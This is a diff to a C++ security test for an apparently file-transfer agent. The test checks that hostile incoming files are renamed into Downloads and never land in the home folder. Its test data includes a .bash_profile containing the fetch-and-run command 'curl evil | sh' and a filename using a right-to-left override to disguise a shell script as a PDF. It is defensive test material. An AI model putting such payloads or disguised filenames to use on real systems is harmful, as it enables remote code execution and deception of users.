@@ -190,13 +190,13 @@ TEST(AgentUnderAttack, FilesNeverLandInTheHomeFolderNorHiddenAndRefusalsAreSaid)
     ASSERT_NO_FATAL_FAILURE(agent.startInSession(paired));
 
     sendFile(paired, 1, ".bash_profile", "curl evil | sh\n");
-    sendFile(paired, 2, "invoice\u202Efdp.sh", "#!/bin/sh\n"); // refused, as request 1
+    sendFile(paired, 2, "invoice\u202Efdp.sh", "#!/bin/sh\n"); // kept, its direction mark replaced
     // One byte over 2 GiB, and one the disk could never hold.
     ASSERT_TRUE(paired.sendSealed(wex::ControlType::fileOffer,
                                   wex::FileOffer{5, 3, (uint64_t{1} << 31) + 1, "movie.mkv"}.encode()));
     ASSERT_TRUE(
         paired.sendSealed(wex::ControlType::fileOffer, wex::FileOffer{6, 4, uint64_t{1} << 50, "disk.img"}.encode()));
-    for (const uint16_t reqId : {1, 5, 6}) {
+    for (const uint16_t reqId : {5, 6}) {
         const auto error = paired.receiveType(wex::ControlType::error);
         ASSERT_TRUE(error) << reqId;
         const auto message = wex::ErrorMsg::decode(error->payload);
@@ -206,10 +206,12 @@ TEST(AgentUnderAttack, FilesNeverLandInTheHomeFolderNorHiddenAndRefusalsAreSaid)
     }
 
     const std::string downloads = agent.home.file("Downloads");
-    ASSERT_TRUE(waitFor([&] { return fs::exists(downloads + "/_bash_profile"); })) << agent.log();
+    ASSERT_TRUE(waitFor([&] {
+        return fs::exists(downloads + "/_bash_profile") && fs::exists(downloads + "/invoice_fdp.sh");
+    })) << agent.log();
     EXPECT_FALSE(fs::exists(agent.home.file(".bash_profile")));
     EXPECT_EQ(modeOf(downloads), 0700u);
-    EXPECT_EQ(filesIn(downloads), std::vector<std::string>{"_bash_profile"});
+    EXPECT_EQ(filesIn(downloads), (std::vector<std::string>{"_bash_profile", "invoice_fdp.sh"}));
 }
 
 TEST(AgentUnderAttack, AStopMidTransferLeavesNoPartialFileAndLeftoversGoAtStart) {
